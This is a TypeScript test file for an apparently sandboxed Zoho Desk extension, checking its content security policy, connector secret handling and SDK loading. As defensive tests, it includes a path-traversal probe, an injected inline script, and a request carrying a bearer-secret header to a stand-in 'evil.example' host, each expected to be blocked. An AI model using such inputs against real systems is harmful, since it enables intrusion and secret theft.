import assert from 'node:assert/strict';
import { once } from 'node:events';
import { readFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, it } from 'node:test';
import { callSdk, messagesOf, widgetFrame } from '../support/desk-page.ts';
import { PROBE_FOLDER, startProbedDesk, type ProbedDesk } from './fixture.ts';

const SDK_ADDRESS = 'https://js.zohostatic.com/support/developer_sdk/v1/js/ZohoDeskClientSDK.min.js';
const SDK_FILE = 'test/sandbox/desk-page/sdk/zohodesk-sdk.js';

describe('the origin of the extension’s files', () => {
  let desk: ProbedDesk;
  let connector = '';
  const authorizations: unknown[] = [];
  const server = createServer((request, response) => {
    authorizations.push(request.headers.authorization);
    response.writeHead(409, { 'content-type': 'application/json' }).end('{"code":"paused"}');
  });
  before(async () => {
    await once(server.listen(0, '127.0.0.1'), 'listening');
    connector = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    desk = await startProbedDesk({ connector_secret: 's3cret' }, connector);
  });
  after(async () => {
    await desk.stop();
    server.close();
  });

  async function base(): Promise<string> {
    const answer = await fetch(`${desk.sandbox.urls.deskPage}/_desk/extension`);
    return ((await answer.json()) as { base: string }).base;
  }

  it('serves pages under the strict policy, never cached, and no file outside app/', async () => {
    const answer = await fetch(`${await base()}/app/probe.html`);
    const policy = answer.headers.get('content-security-policy') ?? '';
    for (const part of [
      "default-src 'none'",
      "script-src 'self' https://js.zohostatic.com",
      "style-src 'self'",
      `connect-src 'self' ${connector}`,
      "base-uri 'none'",
      "form-action 'none'",
      `frame-ancestors ${desk.sandbox.urls.deskPage}`,
    ]) {
      assert.ok(policy.split('; ').includes(part), `${part} in ${policy}`);
    }
    assert.equal(answer.headers.get('cache-control'), 'no-store');
    const html = await answer.text();
    assert.ok(html.includes(`data-connector="${connector}"`), 'the placeholder is replaced');
    assert.ok(!html.includes('zohostatic'), 'the SDK is ours');
    for (const path of ['..%2fplugin-manifest.json', 'nothing.html', 'translations']) {
      assert.equal((await fetch(`${await base()}/app/${path}`)).status, 404, path);
    }
  });

  it('a violation of the policy is reported and shown by the control API', async () => {
    const { page, probe } = await desk.openTicket();
    const reports = `${desk.sandbox.urls.control}/_sandbox/csp-reports`;
    assert.deepEqual(await (await fetch(reports)).json(), [], 'the probe itself is clean');
    const reported = page.waitForRequest((request) => request.url().endsWith('/csp-report'));
    await probe.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.hacked = true';
      document.body.append(script);
    });
    await (await reported).response();
    assert.equal(await probe.evaluate(() => 'hacked' in window), false);
    const [report] = (await (await fetch(reports)).json()) as { 'csp-report': Record<string, unknown> }[];
    assert.match(String(report?.['csp-report']['effective-directive']), /^script-src/);
    await fetch(reports, { method: 'DELETE' });
    assert.deepEqual(await (await fetch(reports)).json(), []);
    await page.close();
  });

  it('a secret reaches the connector through ZOHODESK.request and never the browser', async () => {
    const { page, probe } = await desk.openTicket();
    const calls: string[] = [];
    page.on('request', (request) => calls.push(request.url()));
    const headers = { authorization: 'Bearer {{connector_secret}}' };
    const options = { url: `${connector}/v1/x`, type: 'GET', headers, data: {}, postBody: {} };
    const answer = await callSdk(probe, 'request', options);
    assert.ok(answer.ok, 'an error of the connector resolves');
    const { response, statusCode } = JSON.parse(String(answer.value)) as Record<string, unknown>;
    assert.deepEqual([statusCode, response], [409, '{"code":"paused"}']);
    assert.deepEqual(authorizations, ['Bearer s3cret']);
    const listed = await callSdk(probe, 'request', { url: 'https://evil.example/', type: 'GET', headers });
    assert.match(JSON.stringify(listed), /No entry found in plugin-manifest whiteListedDomains/);
    await page.evaluate(() => window.deskPage.setFaults({ request: { notAuthorised: true } }));
    const refused = await callSdk(probe, 'request', { url: `${connector}/v1/x`, type: 'GET', headers });
    assert.match(String(refused.ok && refused.value), /"error_code":"1000"/);
    assert.ok(calls.every((url) => url.startsWith(desk.sandbox.urls.deskPage)));
    assert.ok(!JSON.stringify(await messagesOf(page)).includes('s3cret'));
    await page.close();
  });

  it('the SDK’s own address can be kept, for a driver that answers it', async () => {
    desk.sandbox.deskPage.install({ folder: PROBE_FOLDER, keepSdkAddress: true });
    const page = await desk.browser.newPage();
    const script = await readFile(SDK_FILE, 'utf8');
    let asked = 0;
    await page.route(SDK_ADDRESS, async (route) => {
      asked += 1;
      await route.fulfill({ contentType: 'text/javascript', body: script });
    });
    await page.goto(`${desk.sandbox.urls.deskPage}/#/topband`);
    assert.equal((await callSdk(await widgetFrame(page, 'probe-band'), 'get', 'user.id')).ok, true);
    assert.equal(asked, 1);
    await page.close();
  });

  it('without a built extension the page says so', async () => {
    await fetch(`${desk.sandbox.urls.control}/_sandbox/extension`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ folder: '/nowhere' }),
    });
    const page = await desk.open('/#/settings');
    assert.match(
      (await page.locator('.no-extension').textContent()) ?? '',
      /No extension is built here: plugin-manifest\.json is missing in \/nowhere/,
    );
    await page.close();
  });
});
